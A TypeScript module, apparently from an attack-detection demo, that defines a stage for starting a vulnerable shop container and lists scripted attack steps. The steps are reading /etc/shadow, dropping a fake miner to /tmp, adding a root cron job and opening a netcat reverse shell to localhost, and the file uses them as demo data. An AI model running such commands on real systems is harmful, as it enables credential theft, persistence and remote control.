import type { ShopVersion } from './shop-image.ts'

/**
 * Where the story runs: on this host, in containers that it starts, or from a recording of that. Both feed the same
 * story to the same daemon.
 */
export interface Stage {
  /** One sentence: the origin of the events on the screen. */
  readonly words: string
  /** The config of its agent. */
  readonly config: Readonly<Record<string, unknown>>
  readonly piped: boolean
  /** Starts a container of that version, with visitors who go on until the stage is closed. */
  begin(version: ShopVersion): Promise<void>
  /** Resolves with the time of the attack itself, in milliseconds since 1970. */
  attack(act: AttackAct): Promise<number>
  close(): Promise<void>
}

export interface AttackAct {
  readonly id: string
  readonly title: string
  /** The command that the shop's shell is made to run. */
  readonly command: string
}

export const attackActs: readonly AttackAct[] = [
  { id: 'shell', title: 'exploits the hole and asks for the user', command: '/bin/id' },
  { id: 'shadow', title: 'reads the password hashes', command: '/bin/cat /etc/shadow' },
  {
    id: 'drop',
    title: 'drops a miner and runs it',
    command: '/bin/cp /bin/busybox /tmp/kdevtmpfsi; /tmp/kdevtmpfsi',
  },
  {
    id: 'cron',
    title: 'adds a cron job to survive a restart',
    command: 'echo "* * * * * root /tmp/kdevtmpfsi" >> /etc/crontab',
  },
  {
    id: 'reverse',
    title: 'opens a reverse shell',
    command: '/usr/bin/nc 127.0.0.1 4444 -e /bin/sh',
  },
]
